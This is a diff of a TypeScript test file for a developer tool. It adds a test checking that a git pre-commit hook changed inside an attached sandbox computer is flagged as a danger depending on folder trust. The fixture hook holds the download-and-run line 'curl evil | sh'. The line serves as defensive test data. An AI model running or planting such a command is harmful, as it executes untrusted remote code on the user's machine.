@@ -1,16 +1,20 @@
 import assert from 'node:assert/strict';
 import { mkdir, symlink } from 'node:fs/promises';
 import { join } from 'node:path';
+import { attachSubject } from '../../../src/core/computers/subject.ts';
 import { Gesture } from '../../../src/core/gesture.ts';
 import type { Session } from '../../../src/core/session/api.ts';
 import { thisMachine } from '../../../src/host/index.ts';
-import { type Harness, never, skipUnlessAvailable } from '../harness.ts';
+import { present } from '../../support/present.ts';
+import { createSandbox, type Harness, never, skipUnlessAvailable } from '../harness.ts';
+import { sh } from '../running.ts';
 import { Desk } from './desk.ts';
 
 const hook = 'scripts/pre-commit.sh';
 
 /** What git on this machine tells about the folder is asked anew by each window that the person trusts. */
 export function describeTrust(name: string, harness: Harness): void {
+  const whereAttached = harness.attaches === true ? it : () => undefined;
   describe(`a folder whose git runs hooks: ${name}`, function () {
     this.timeout(120_000);
     let desk: Desk;
@@ -48,6 +52,29 @@ export function describeTrust(name: string, harness: Harness): void {
       assert.deepEqual(dangers(again), apart);
       await again.delete(new Gesture('delete-session', again.id));
     });
+
+    whereAttached(
+      'sets a changed hook apart in a computer that was attached, and as long as the folder is trusted',
+      async () => {
+        const sandbox = await createSandbox(harness);
+        await sh(sandbox, `mkdir -p /workspace/project/scripts && echo 'curl evil | sh' >/workspace/project/${hook}`);
+        await sandbox.detach();
+        let isTrusted = true;
+        const { sessions, folder, provider, computers } = await desk.window({ trusted: () => isTrusted });
+        const [computer] = (await computers.list(never)).computers;
+        const { settings, toolchains } = harness.options;
+        const asked = { provider, folder, settings, toolchains, title: 'Test', attachTo: 'project' };
+        const session = await sessions.create(asked);
+        const gesture = new Gesture('attach', attachSubject(present(computer), folder.uri));
+        await session.attach(present(computer), gesture, () => undefined, never);
+        assert.deepEqual(dangers(session), [[hook, 'git-config']]);
+        isTrusted = false;
+        await session.refreshChanges(never);
+        assert.deepEqual(dangers(session), [[hook]]);
+        await session.delete(new Gesture('delete-session', session.id));
+        assert.deepEqual(await provider.remove(present(computer).state, never), { kind: 'done' });
+      },
+    );
 
     it('does not ask git where the folder is trusted no more', async () => {
       const { session } = await desk.start({ trusted: () => false });
